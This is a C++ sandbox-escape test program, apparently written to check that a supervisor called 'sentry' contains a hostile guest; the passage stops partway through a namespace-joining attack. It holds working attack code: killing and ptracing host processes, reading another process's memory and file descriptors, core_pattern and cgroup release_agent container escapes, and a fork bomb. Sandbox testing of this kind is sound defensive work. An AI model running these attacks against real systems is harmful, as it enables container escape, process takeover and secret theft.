// hostile_guest: attacks the sandbox it runs in, one attack per invocation.
//
//     hostile_guest <attack> [args...]     run one attack
//     hostile_guest list                   print the attack names
//
// Each attack prints what the kernel (or sentry) answered, as lines
//
//     RESULT <attack> <step> <ok|ERRNO-NAME> [detail]
//
// followed by a final `END <attack>` line. The guest never decides whether it
// escaped: run_hostile.sh judges from the host (the victim process is still
// alive, the host file is unchanged, the host listener saw no connection, no
// secret appears in this output, ...). Only where the host cannot observe the
// effect (the kernel's own permission check on a file the guest made, an fd
// obtained from another process, io_uring being available at all) does the
// script use the guest's report; run_hostile.sh says so next to each such
// judgement.
//
// Everything read from elsewhere (files, keys, shm, kernel log records) is
// printed, escaped, so that a secret the script planted shows up in the
// output if the attack got it. Of another process's environment, memory or
// fds only the entries carrying a marker word (HOSTILE, SECRET, SENTRY) are
// printed: the script's secrets all carry one, and nothing else of a host
// process ends up in a log. The guest is never given a secret: only paths,
// pids, addresses and marker tokens.
//
// Attacks that could hurt the host when they succeed (kill(-1, SIGKILL),
// pivot_root, signals to pid 1) are only run by the script after harmless
// probes showed the guest is contained (see the gates in run_hostile.sh).
//
// Build: g++ -std=c++20 -O1 -static -pthread hostile_guest.cc
// (static: the guest may run where the host's libraries are not visible).
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/audit.h>
#include <linux/capability.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/futex.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <linux/unix_diag.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/epoll.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <cstdarg>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

namespace {

using Args = std::vector<std::string>;

// ---------------------------------------------------------------------------
// Output: whole lines with one write(2) each, so that lines of a parent and a
// child never interleave and nothing sits in a stdio buffer when a process is
// killed or replaced by exec.

std::string g_attack;  // name of the running attack, prefix of RESULT lines

void say(const char* fmt, ...) __attribute__((format(printf, 1, 2)));
void say(const char* fmt, ...) {
  char buf[16384];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
  va_end(ap);
  if (n < 0) return;
  if (n > static_cast<int>(sizeof buf) - 2) n = sizeof buf - 2;
  buf[n++] = '\n';
  for (int off = 0; off < n;) {
    ssize_t w = write(1, buf + off, n - off);
    if (w <= 0) return;
    off += w;
  }
}

const char* err_name(int e) {
  const char* n = strerrorname_np(e);
  return n ? n : "E?";
}

// Printable form of bytes read from elsewhere (\0 becomes "\0", others \xNN).
std::string escaped(const void* data, size_t n) {
  std::string s;
  const auto* p = static_cast<const unsigned char*>(data);
  for (size_t i = 0; i < n; ++i) {
    unsigned char c = p[i];
    if (c == 0) {
      s += "\\0";
    } else if (c >= 0x20 && c < 0x7f && c != '\\') {
      s += static_cast<char>(c);
    } else {
      char b[8];
      snprintf(b, sizeof b, "\\x%02x", c);
      s += b;
    }
  }
  return s;
}

// RESULT line for a call that returned r (< 0 meaning errno is set).
long report(const char* step, long r, const std::string& detail = "") {
  if (r < 0) {
    say("RESULT %s %s %s%s%s", g_attack.c_str(), step, err_name(errno), detail.empty() ? "" : " ", detail.c_str());
  } else {
    say("RESULT %s %s ok%s%s", g_attack.c_str(), step, detail.empty() ? "" : " ", detail.c_str());
  }
  return r;
}

// RESULT line for a step that did not return a value worth showing.
void note(const char* step, const std::string& what) { say("RESULT %s %s %s", g_attack.c_str(), step, what.c_str()); }

// Reads up to max bytes from fd, from its current offset.
std::string read_fd(int fd, size_t max = 4096) {
  std::string s(max, '\0');
  size_t got = 0;
  while (got < max) {
    ssize_t r = read(fd, s.data() + got, max - got);
    if (r <= 0) break;
    got += r;
  }
  s.resize(got);
  return s;
}

// Opens path, reads it and prints its (escaped) content as step `step`.
// Returns true when something was read.
bool print_file(const char* step, const std::string& path, int flags = O_RDONLY) {
  int fd = open(path.c_str(), flags | O_CLOEXEC);
  if (fd < 0) {
    report(step, -1, path);
    return false;
  }
  std::string s = read_fd(fd);
  int e = errno;
  close(fd);
  if (s.empty()) {
    errno = e;
    note(step, "opened " + path + ", read nothing");
    return false;
  }
  note(step, "ok read " + path + ": " + escaped(s.data(), s.size()));
  return true;
}

// Bytes taken from ANOTHER process (its environment, memory, fds): only the
// entries (split at NUL and newline) that carry one of the script's marker
// words are printed, so that nothing else of a host process (its other
// environment variables, say) ends up in the output. The script's secrets all
// contain one of these words.
void print_filtered(const char* step, const std::string& data) {
  int shown = 0;
  size_t i = 0;
  while (i < data.size()) {
    size_t j = data.find_first_of(std::string_view("\0\n", 2), i);
    if (j == std::string::npos) j = data.size();
    std::string_view e(data.data() + i, j - i);
    if ((e.find("HOSTILE") != e.npos || e.find("SECRET") != e.npos || e.find("SENTRY") != e.npos) && shown++ < 8)
      note(step, "entry: " + escaped(e.data(), e.size()));
    i = j + 1;
  }
  note(step, "ok " + std::to_string(data.size()) + " bytes, " + std::to_string(shown) + " marked entries");
}
void print_file_filtered(const char* step, const std::string& path, int flags = O_RDONLY) {
  int fd = open(path.c_str(), flags | O_CLOEXEC);
  if (fd < 0) return (void)report(step, -1, path);
  std::string s = read_fd(fd, 65536);
  close(fd);
  print_filtered(step, s);
}

// Writes text to path (O_WRONLY|extra), reporting open and write separately.
void write_file(const char* step, const std::string& path, const std::string& text, int extra = 0, mode_t mode = 0644) {
  int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC | extra, mode);
  if (fd < 0) {
    report(step, -1, "open " + path);
    return;
  }
  ssize_t w = write(fd, text.data(), text.size());
  report(step, w, "write " + path);
  close(fd);
}

long arg_long(const Args& a, size_t i) {
  if (i >= a.size()) {
    say("RESULT %s usage missing-argument-%zu", g_attack.c_str(), i);
    _exit(2);
  }
  return strtol(a[i].c_str(), nullptr, 0);
}
uint64_t arg_u64(const Args& a, size_t i) {
  if (i >= a.size()) {
    say("RESULT %s usage missing-argument-%zu", g_attack.c_str(), i);
    _exit(2);
  }
  return strtoull(a[i].c_str(), nullptr, 0);
}
const std::string& arg_str(const Args& a, size_t i) {
  if (i >= a.size()) {
    say("RESULT %s usage missing-argument-%zu", g_attack.c_str(), i);
    _exit(2);
  }
  return a[i];
}

// Race iterations: the given argument, at least 1.
long iterations(const Args& a, size_t i) { return i < a.size() ? std::max(1L, arg_long(a, i)) : 10000L; }

void sleep_ms(long ms) {
  timespec ts{ms / 1000, (ms % 1000) * 1000000L};
  while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
  }
}

// Runs fn in a forked child (for attacks that may crash or must not touch the
// main process's state) and reports how the child ended when not normally.
template <typename F>
void in_child(const char* what, F fn) {
  pid_t p = fork();
  if (p < 0) return (void)report(what, -1, "fork");
  if (p == 0) {
    fn();
    _exit(0);
  }
  int st = 0;
  while (waitpid(p, &st, 0) < 0 && errno == EINTR) {
  }
  if (WIFSIGNALED(st)) note(what, "child killed by signal " + std::to_string(WTERMSIG(st)));
}

// The range [env_start, env_end) of another process, from its /proc/PID/stat
// (fields 50 and 51). Empty when /proc does not show the process.
bool env_range(pid_t pid, uint64_t* start, uint64_t* end) {
  std::string path = "/proc/" + std::to_string(pid) + "/stat";
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    report("read-stat", -1, path);
    return false;
  }
  std::string s = read_fd(fd);
  close(fd);
  size_t rp = s.rfind(')');
  if (rp == std::string::npos) return false;
  // Field 3 starts two characters after ')'.
  std::vector<std::string> f;
  size_t i = rp + 2;
  while (i < s.size()) {
    size_t j = s.find(' ', i);
    if (j == std::string::npos) j = s.size();
    f.push_back(s.substr(i, j - i));
    i = j + 1;
  }
  if (f.size() < 49) return false;  // f[0] is field 3
  *start = strtoull(f[47].c_str(), nullptr, 10);
  *end = strtoull(f[48].c_str(), nullptr, 10);
  note("read-stat", "ok env " + std::to_string(*start) + ".." + std::to_string(*end));
  return *end > *start;
}

int pidfd_open(pid_t pid) { return static_cast<int>(syscall(SYS_pidfd_open, pid, 0)); }
int pidfd_getfd(int pidfd, int fd) { return static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, fd, 0)); }
long pidfd_send_signal(int pidfd, int sig) { return syscall(SYS_pidfd_send_signal, pidfd, sig, nullptr, 0); }

std::string fd_link(int fd) {
  char buf[512];
  std::string p = "/proc/self/fd/" + std::to_string(fd);
  ssize_t n = readlink(p.c_str(), buf, sizeof buf - 1);
  if (n < 0) return std::string("?") + err_name(errno);
  return std::string(buf, n);
}

// Gives up every privilege a guest root could use: supplementary groups,
// gid and uid 65534 (nobody), in that order.
void drop_to_nobody() {
  report("setgroups-0", setgroups(0, nullptr));
  report("setgid-65534", setgid(65534));
  report("setuid-65534", setuid(65534));
  note("ids", "uid=" + std::to_string(getuid()) + " euid=" + std::to_string(geteuid()));
}

// An abstract unix address for NAME, and its exact length (abstract names are
// length-delimited, so the length must not include padding).
socklen_t abstract_addr(const std::string& name, sockaddr_un* sa) {
  memset(sa, 0, sizeof *sa);
  sa->sun_family = AF_UNIX;
  size_t n = std::min(name.size(), sizeof sa->sun_path - 1);
  memcpy(sa->sun_path + 1, name.data(), n);
  return static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + n);
}

// The mount point (guest view, from /proc/self/mountinfo) that holds path,
// and its per-mount options. Falls back to "/".
std::string mount_point_of(const std::string& path, std::string* opts) {
  int fd = open("/proc/self/mountinfo", O_RDONLY | O_CLOEXEC);
  std::string best = "/";
  if (fd < 0) return best;
  std::string all = read_fd(fd, 1 << 20);
  close(fd);
  size_t pos = 0;
  size_t best_len = 0;
  while (pos < all.size()) {
    size_t eol = all.find('\n', pos);
    if (eol == std::string::npos) eol = all.size();
    std::string line = all.substr(pos, eol - pos);
    pos = eol + 1;
    std::vector<std::string> f;
    size_t i = 0;
    while (i < line.size()) {
      size_t j = line.find(' ', i);
      if (j == std::string::npos) j = line.size();
      f.push_back(line.substr(i, j - i));
      i = j + 1;
    }
    if (f.size() < 6) continue;
    const std::string& mp = f[4];
    bool under = mp == "/" || path == mp || (path.compare(0, mp.size(), mp) == 0 && path[mp.size()] == '/');
    if (under && mp.size() >= best_len) {
      best = mp;
      best_len = mp.size();
      if (opts) *opts = f[5];
    }
  }
  return best;
}

// MS_* flags matching a mountinfo per-mount option string, without MS_RDONLY:
// what a remount that only clears "ro" passes.
unsigned long flags_without_ro(const std::string& opts) {
  unsigned long fl = 0;
  auto has = [&](const char* o) {
    std::string s = "," + opts + ",";
    return s.find(std::string(",") + o + ",") != std::string::npos;
  };
  if (has("nosuid")) fl |= MS_NOSUID;
  if (has("nodev")) fl |= MS_NODEV;
  if (has("noexec")) fl |= MS_NOEXEC;
  if (has("noatime")) fl |= MS_NOATIME;
  if (has("nodiratime")) fl |= MS_NODIRATIME;
  if (has("relatime")) fl |= MS_RELATIME;
  if (has("nosymfollow")) fl |= MS_NOSYMFOLLOW;
  return fl;
}

// A buffer that a second thread keeps flipping between two (or three)
// contents while the main thread passes it to the kernel: the time-of-check /
// time-of-use attack against a supervisor that reads guest memory, decides,
// and then lets the host kernel read the same memory again.
class Flipper {
 public:
  static constexpr size_t kSize = 256;
  explicit Flipper(std::vector<std::string> variants) : variants_(std::move(variants)) {
    for (auto& v : variants_) v.resize(kSize, '\0');
    memcpy(buf_, variants_[0].data(), kSize);
    thread_ = std::thread([this] { run(); });
    while (flips() == 0) std::this_thread::yield();  // racing from the first call on
  }
  ~Flipper() {
    stop_.store(true);
    thread_.join();
  }
  char* data() { return buf_; }
  // Contents written so far (shown with each race's tally: a race whose
  // flipper barely ran tested nothing).
  uint64_t flips() const { return flips_.load(std::memory_order_relaxed); }

 private:
  // Writes a randomly chosen variant, then dwells a random while (0..255
  // pause instructions): a fixed rhythm could phase-lock with the main loop
  // so that the call always sees the same variant.
  void run() {
    uint64_t x = 0x9e3779b97f4a7c15ull ^ reinterpret_cast<uintptr_t>(this);
    while (!stop_.load(std::memory_order_relaxed)) {
      x ^= x << 13;
      x ^= x >> 7;
      x ^= x << 17;
      memcpy(buf_, variants_[x % variants_.size()].data(), kSize);
      asm volatile("" ::: "memory");  // keep every store: the kernel must see each content
      flips_.fetch_add(1, std::memory_order_relaxed);
      for (unsigned spin = (x >> 32) & 255; spin; --spin) asm volatile("pause" ::: "memory");
    }
  }
  std::vector<std::string> variants_;
  alignas(64) char buf_[kSize];
  std::atomic<bool> stop_{false};
  std::atomic<uint64_t> flips_{0};
  std::thread thread_;
};

// Counts outcomes of a race loop by name ("ok", "EACCES", ...).
struct Tally {
  std::map<std::string, long> counts;
  int64_t flips = -1;  // how often a Flipper changed the argument meanwhile (-1: none)
  void add(const std::string& k) { ++counts[k]; }
  std::string str() const {
    std::string s;
    for (auto& [k, v] : counts) s += (s.empty() ? "" : " ") + k + "=" + std::to_string(v);
    return flips < 0 ? s : s + " flips=" + std::to_string(flips);
  }
};

// ===========================================================================
// Signals. The victim is a host process started by the script; its pid is
// the host's. judged: the victim is still alive and unchanged.

void signal0_victim(const Args& a) { report("kill-0", kill(arg_long(a, 0), 0)); }
void kill_victim(const Args& a) { report("kill-SIGKILL", kill(arg_long(a, 0), SIGKILL)); }
void tgkill_victim(const Args& a) {
  pid_t v = arg_long(a, 0);
  report("tgkill-SIGKILL", syscall(SYS_tgkill, v, v, SIGKILL));
}
void tkill_victim(const Args& a) { report("tkill-SIGKILL", syscall(SYS_tkill, arg_long(a, 0), SIGKILL)); }

void pidfd_signal_victim(const Args& a) {
  int pfd = report("pidfd_open", pidfd_open(arg_long(a, 0)));
  if (pfd >= 0) report("pidfd_send_signal-SIGKILL", pidfd_send_signal(pfd, SIGKILL));
}

void sigqueue_victim(const Args& a) {
  siginfo_t si{};
  si.si_signo = SIGKILL;
  si.si_code = SI_QUEUE;
  si.si_pid = getpid();
  si.si_uid = getuid();
  report("rt_sigqueueinfo-SIGKILL", syscall(SYS_rt_sigqueueinfo, arg_long(a, 0), SIGKILL, &si));
  report("rt_tgsigqueueinfo-SIGKILL", syscall(SYS_rt_tgsigqueueinfo, arg_long(a, 0), arg_long(a, 0), SIGKILL, &si));
}

// The victim leads its own process group.
void kill_pgrp_victim(const Args& a) { report("kill-pgrp-SIGKILL", kill(-arg_long(a, 0), SIGKILL)); }

// SIGIO with F_SETSIG=SIGKILL delivered to an owner chosen with F_SETOWN.
void fsetown_sigio(const Args& a) {
  int sv[2];
  if (report("socketpair", socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv)) < 0) return;
  report("F_SETOWN", fcntl(sv[0], F_SETOWN, static_cast<int>(arg_long(a, 0))));
  report("F_SETSIG-SIGKILL", fcntl(sv[0], F_SETSIG, SIGKILL));
  report("F_SETFL-O_ASYNC", fcntl(sv[0], F_SETFL, O_ASYNC | O_NONBLOCK));
  report("write-peer", write(sv[1], "x", 1));
  sleep_ms(100);
}

// kill(-1, SIGURG): SIGURG is ignored by default, so this harms nothing even
// where it escapes; the victim logs it. Run before kill_all so that a sandbox
// where kill(-1) reaches the host never gets the SIGKILL version.
void kill_all_probe(const Args&) { report("kill-minus1-SIGURG", kill(-1, SIGURG)); }
void kill_all(const Args&) { report("kill-minus1-SIGKILL", kill(-1, SIGKILL)); }

// SIGKILL to the guest's pid 1 (the script only runs this when pid 1 is not
// the host's init). Judged: the run still ends normally.
void kill_init(const Args&) {
  report("kill-1-SIGKILL", kill(1, SIGKILL));
  sleep_ms(200);
}

// ===========================================================================
// Process access to the host victim.

// Fd 3 of the victim is the host secret file.
void pidfd_getfd_victim(const Args& a) {
  int pfd = report("pidfd_open", pidfd_open(arg_long(a, 0)));
  if (pfd < 0) return;
  int fd = report("pidfd_getfd-3", pidfd_getfd(pfd, 3));
  if (fd < 0) return;
  note("fd-link", fd_link(fd));
  char buf[512];
  ssize_t n = report("pread", pread(fd, buf, sizeof buf, 0));
  if (n > 0) print_filtered("content", std::string(buf, n));
}

// Reads the victim's environment block (it holds the victim's secret).
void vm_read_victim(const Args& a) {
  uint64_t start = arg_u64(a, 1), end = arg_u64(a, 2);
  std::string buf(std::min<uint64_t>(end - start, 8192), '\0');
  iovec local{buf.data(), buf.size()};
  iovec remote{reinterpret_cast<void*>(start), buf.size()};
  ssize_t n = report("process_vm_readv", syscall(SYS_process_vm_readv, arg_long(a, 0), &local, 1, &remote, 1, 0));
  if (n > 0) print_filtered("content", buf.substr(0, n));
}

void vm_write_victim(const Args& a) {
  char text[] = "PWNEDVM=";
  iovec local{text, 8};
  iovec remote{reinterpret_cast<void*>(arg_u64(a, 1)), 8};
  report("process_vm_writev", syscall(SYS_process_vm_writev, arg_long(a, 0), &local, 1, &remote, 1, 0));
}

// Attach, read the environment with PEEKDATA, overwrite its first word, detach.
void ptrace_victim(const Args& a) {
  pid_t v = arg_long(a, 0);
  uint64_t start = arg_u64(a, 1), end = arg_u64(a, 2);
  if (report("PTRACE_ATTACH", ptrace(PTRACE_ATTACH, v, nullptr, nullptr)) < 0) return;
  int st;
  report("waitpid", waitpid(v, &st, __WALL));
  std::string env;
  for (uint64_t p = start; p + 8 <= end && env.size() < 4096; p += 8) {
    errno = 0;
    long w = ptrace(PTRACE_PEEKDATA, v, reinterpret_cast<void*>(p), nullptr);
    if (errno) break;
    env.append(reinterpret_cast<const char*>(&w), 8);
  }
  print_filtered("peek", env);
  long word;
  memcpy(&word, "PWNEDPT=", 8);
  report("PTRACE_POKEDATA", ptrace(PTRACE_POKEDATA, v, reinterpret_cast<void*>(start), reinterpret_cast<void*>(word)));
  report("PTRACE_DETACH", ptrace(PTRACE_DETACH, v, nullptr, nullptr));
}

// Lowest CPU and I/O priority for the victim (judged from its nice/ionice).
void prio_victim(const Args& a) {
  pid_t v = arg_long(a, 0);
  report("setpriority-19", setpriority(PRIO_PROCESS, v, 19));
  report("ioprio_set-idle", syscall(SYS_ioprio_set, 1 /*IOPRIO_WHO_PROCESS*/, v, 3 << 13 /*IOPRIO_CLASS_IDLE*/));
}

void prlimit_victim(const Args& a) {
  rlimit nl{16, 16}, old{};
  report("prlimit-NOFILE", prlimit(static_cast<pid_t>(arg_long(a, 0)), RLIMIT_NOFILE, &nl, &old),
         "old=" + std::to_string(old.rlim_cur));
}

// Pins the victim to the last CPU (args: pid, cpu).
void affinity_victim(const Args& a) {
  cpu_set_t set;
  CPU_ZERO(&set);
  CPU_SET(arg_long(a, 1), &set);
  report("sched_setaffinity", sched_setaffinity(arg_long(a, 0), sizeof set, &set));
}

// A child created with CLONE_UNTRACED is not auto-attached by a ptrace-based
// supervisor. It sleeps 3 s and exits; the parent exits at once. Judged: no
// process of this run is left on the host once `sentry run` has returned.
void clone_untraced(const Args&) {
  long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) {
    sleep_ms(3000);
    _exit(0);
  }
  report("clone-CLONE_UNTRACED", pid, "child=" + std::to_string(pid));
}

// A bounded fork bomb (at most MAX children, each sleeping 1.5 s): run with
// sentry's --pids-limit, the tree must stop growing at the limit. Judged from
// the host, which counts this program's processes while it runs.
void fork_bomb(const Args& a) {
  long max = arg_long(a, 0), made = 0;
  int first_err = 0;
  while (made < max) {
    pid_t p = fork();
    if (p == 0) {
      sleep_ms(1500);
      _exit(0);
    }
    if (p < 0) {
      first_err = errno;
      break;
    }
    ++made;
  }
  note("fork", std::to_string(made) + " children" + (first_err ? std::string(", then ") + err_name(first_err) : ""));
  while (wait(nullptr) > 0 || errno == EINTR) {
  }
}

// ===========================================================================
// sentry itself (its host pid is an argument). Judged: sentry survives (the
// run ends normally), its environment and fds do not show up here.

void sig_sentry(const Args& a) {
  report("kill-SIGKILL", kill(arg_long(a, 0), SIGKILL));
  sleep_ms(200);
}

void sig_sentry_pidfd(const Args& a) {
  int pfd = report("pidfd_open", pidfd_open(arg_long(a, 0)));
  if (pfd >= 0) report("pidfd_send_signal-SIGKILL", pidfd_send_signal(pfd, SIGKILL));
  sleep_ms(200);
}

void stop_sentry(const Args& a) {
  report("kill-SIGSTOP", kill(arg_long(a, 0), SIGSTOP));
  sleep_ms(200);
}

void ptrace_sentry(const Args& a) {
  pid_t s = arg_long(a, 0);
  if (report("PTRACE_ATTACH", ptrace(PTRACE_ATTACH, s, nullptr, nullptr)) < 0) return;
  int st;
  report("waitpid", waitpid(s, &st, __WALL));
  report("PTRACE_KILL", ptrace(PTRACE_KILL, s, nullptr, nullptr));
  sleep_ms(200);
}

// Every fd of sentry that pidfd_getfd hands out is listed (GOTFD) and, when
// readable, its first bytes are printed (the script gave sentry fd 9 on a
// secret file).
void pidfd_getfd_sentry(const Args& a) {
  int pfd = report("pidfd_open", pidfd_open(arg_long(a, 0)));
  if (pfd < 0) return;
  int got = 0;
  int last_err = 0;
  for (int n = 0; n < 256; ++n) {
    int fd = pidfd_getfd(pfd, n);
    if (fd < 0) {
      last_err = errno;
      continue;
    }
    ++got;
    say("GOTFD %d %s", n, fd_link(fd).c_str());
    char buf[256];
    ssize_t r = pread(fd, buf, sizeof buf, 0);
    if (r > 0) print_filtered("content", std::string(buf, r));
    close(fd);
  }
  note("pidfd_getfd",
       "got " + std::to_string(got) + " fds" + (got == 0 ? std::string(", last error ") + err_name(last_err) : ""));
}

// The same against the guest's pid 1, sentry's init: its fds are sentry's.
void pidfd_getfd_init(const Args&) {
  int pfd = report("pidfd_open-1", pidfd_open(1));
  if (pfd < 0) return;
  int got = 0;
  for (int n = 0; n < 256; ++n) {
    int fd = pidfd_getfd(pfd, n);
    if (fd < 0) continue;
    ++got;
    say("GOTFD %d %s", n, fd_link(fd).c_str());
    close(fd);
  }
  note("pidfd_getfd", "got " + std::to_string(got) + " fds");
}

void vm_read_sentry(const Args& a) {
  pid_t s = arg_long(a, 0);
  uint64_t start, end;
  if (!env_range(s, &start, &end)) return;
  std::string buf(std::min<uint64_t>(end - start, 8192), '\0');
  iovec local{buf.data(), buf.size()};
  iovec remote{reinterpret_cast<void*>(start), buf.size()};
  ssize_t n = report("process_vm_readv", syscall(SYS_process_vm_readv, s, &local, 1, &remote, 1, 0));
  if (n > 0) print_filtered("content", buf.substr(0, n));
}

void proc_sentry_environ(const Args& a) {
  std::string p = "/proc/" + std::to_string(arg_long(a, 0));
  print_file_filtered("environ", p + "/environ");
  print_file_filtered("fd9", p + "/fd/9");
}

// Lists this process's own fds above 2: a supervisor's listener, pidfd or
// memory fd left open in the guest is a way into sentry.
// sentry serves the model's /proc and /sys files from FUSE on its own loop:
// every way to make sentry itself touch one of those files (an ioctl or
// epoll registration it performs, its copy of the fd closed after a dup, a
// private mapping of one handed to a call whose memory sentry reads) must
// not have it wait for itself. Judged from the host: the run ends.
void model_fs_stall(const Args&) {
  const int fd = open("/proc/self/status", O_RDONLY | O_CLOEXEC);
  report("open-status", fd);
  char termios_buf[64];
  report("ioctl-TCGETS", ioctl(fd, TCGETS, termios_buf));
  const int ep = epoll_create1(EPOLL_CLOEXEC);
  epoll_event ev{};
  ev.events = EPOLLIN;
  report("epoll-add", epoll_ctl(ep, EPOLL_CTL_ADD, fd, &ev));
  const int copy = dup(fd);
  report("dup", copy);
  report("fcntl-getfl", fcntl(copy, F_GETFL));
  report("close-dup", close(copy));
  const int sysfd = open("/sys/devices/system/cpu/online", O_RDONLY | O_CLOEXEC);
  report("open-online", sysfd);
  void* p = mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, sysfd, 0);
  report("mmap-private", p == MAP_FAILED ? -1 : 0);
  if (p != MAP_FAILED) {
    timespec ts{0, 10 * 1000 * 1000};
    report("futex-wait-on-mapping", syscall(SYS_futex, p, FUTEX_WAIT_PRIVATE, 0, &ts, nullptr, 0));
    const int s = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    report("connect-addr-in-mapping", connect(s, static_cast<sockaddr*>(p), sizeof(sockaddr_in6)));
    close(s);
    munmap(p, 4096);
  }
  close(sysfd);
  close(ep);
  close(fd);
}

void own_fds(const Args&) {
  for (int fd = 3; fd < 1024; ++fd) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    say("FD %d %s", fd, fd_link(fd).c_str());
  }
  note("own-fds", "listed");
}

// ===========================================================================
// /proc and /sys of the host.

void proc_victim_environ(const Args& a) { print_file_filtered("environ", "/proc/" + a.at(0) + "/environ"); }
void proc_victim_fd(const Args& a) { print_file_filtered("fd3", "/proc/" + a.at(0) + "/fd/3"); }
void proc_victim_cmdline(const Args& a) { print_file("cmdline", "/proc/" + a.at(0) + "/cmdline"); }
// The victim's cwd is a 0700 host directory holding secret2.
void proc_victim_cwd(const Args& a) { print_file("cwd-secret2", "/proc/" + a.at(0) + "/cwd/secret2"); }

void proc_victim_mem(const Args& a) {
  std::string p = "/proc/" + a.at(0) + "/mem";
  int fd = report("open-mem", open(p.c_str(), O_RDONLY | O_CLOEXEC));
  if (fd < 0) return;
  char buf[4096];
  uint64_t start = arg_u64(a, 1), end = arg_u64(a, 2);
  ssize_t n = report("pread-env", pread(fd, buf, std::min<uint64_t>(sizeof buf, end - start), start));
  if (n > 0) print_filtered("content", std::string(buf, n));
}

// Prints comm and start time of /proc/1: the script compares them with the
// host's pid 1.
void proc_host_init(const Args&) {
  int fd = open("/proc/1/stat", O_RDONLY | O_CLOEXEC);
  if (fd < 0) return (void)report("open-/proc/1/stat", -1);
  std::string s = read_fd(fd);
  close(fd);
  size_t l = s.find('('), r = s.rfind(')');
  if (l == std::string::npos || r == std::string::npos) return note("parse", "bad stat");
  std::string comm = s.substr(l + 1, r - l - 1);
  // starttime is field 22, i.e. the 20th field after ")".
  size_t i = r + 2;
  for (int f = 3; f < 22 && i < s.size(); ++f) i = s.find(' ', i) + 1;
  std::string start = s.substr(i, s.find(' ', i) - i);
  say("INIT comm=%s starttime=%s", comm.c_str(), start.c_str());
}

// The guest's pid 1 (sentry's init): its environment, command line, fds and
// memory. Judged: no host secret (sentry's environment) appears.
void proc_init_environ(const Args&) {
  print_file_filtered("environ", "/proc/1/environ");
  print_file_filtered("cmdline", "/proc/1/cmdline");
  DIR* d = opendir("/proc/1/fd");
  if (!d) {
    report("opendir-fd", -1);
  } else {
    while (dirent* e = readdir(d)) {
      if (e->d_name[0] == '.') continue;
      std::string p = std::string("/proc/1/fd/") + e->d_name;
      char link[256];
      ssize_t n = readlink(p.c_str(), link, sizeof link - 1);
      say("INITFD %s %s", e->d_name, n > 0 ? std::string(link, n).c_str() : err_name(errno));
      print_file_filtered("initfd-content", p, O_RDONLY | O_NONBLOCK);
    }
    closedir(d);
  }
  uint64_t start, end;
  if (env_range(1, &start, &end)) {
    int fd = report("open-mem", open("/proc/1/mem", O_RDONLY | O_CLOEXEC));
    if (fd >= 0) {
      char buf[4096];
      ssize_t n = report("pread-env", pread(fd, buf, std::min<uint64_t>(sizeof buf, end - start), start));
      if (n > 0) print_filtered("content", std::string(buf, n));
    }
  }
}

void proc_core_pattern(const Args& a) {
  write_file("core_pattern", "/proc/sys/kernel/core_pattern", "|" + arg_str(a, 0) + " %p\n");
}

void proc_sysrq(const Args&) { write_file("sysrq-h", "/proc/sysrq-trigger", "h"); }

void sys_lo_mtu(const Args& a) { write_file("lo-mtu", "/sys/class/net/lo/mtu", arg_str(a, 0) + "\n"); }

// Writes EVIL into every cgroup v1 release_agent it can find (the classic
// cgroup escape), and turns on notify_on_release next to it.
void cgroup_release_agent(const Args& a) {
  std::vector<std::string> dirs = {"/sys/fs/cgroup"};
  if (DIR* d = opendir("/sys/fs/cgroup")) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] != '.') dirs.push_back(std::string("/sys/fs/cgroup/") + e->d_name);
    closedir(d);
  }
  int found = 0;
  for (const auto& dir : dirs) {
    std::string ra = dir + "/release_agent";
    if (access(ra.c_str(), F_OK) != 0) continue;
    ++found;
    write_file("release_agent", ra, arg_str(a, 0) + "\n");
    write_file("notify_on_release", dir + "/notify_on_release", "1\n");
  }
  note("release_agent-files", std::to_string(found));
}

// ===========================================================================
// Hostname / UTS. Judged: the host's hostname and domain name are unchanged.

void sethostname_attack(const Args& a) {
  const std::string& n = arg_str(a, 0);
  report("sethostname", sethostname(n.data(), n.size()));
}
void setdomainname_attack(const Args& a) {
  const std::string& n = arg_str(a, 0);
  report("setdomainname", setdomainname(n.data(), n.size()));
}
void proc_sys_hostname(const Args& a) {
  write_file("proc-hostname", "/proc/sys/kernel/hostname", arg_str(a, 0));
  write_file("proc-domainname", "/proc/sys/kernel/domainname", arg_str(a, 0));
}

// Joins the victim's (the host's) namespaces through /proc/VICTIM/ns, then
// renames the host and writes into a host directory (args: victim, name,
// world dir, token).
void setns_victim(const Args& a) {
  for (const char* ns : {"user", "mnt", "uts", "net", "ipc", "pid", "cgroup"}) {
    std::string p = "/proc/" + a.at(0) + "/ns/" + ns;
    int fd = open(p.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      report((std::string("open-") + ns).c_str(), -1);
      continue;
    }
    report((std::string("setns-") + ns).c_str(), setns(fd, 0));
    close(fd);
  }
  const std::string& n = arg_str(a, 1);
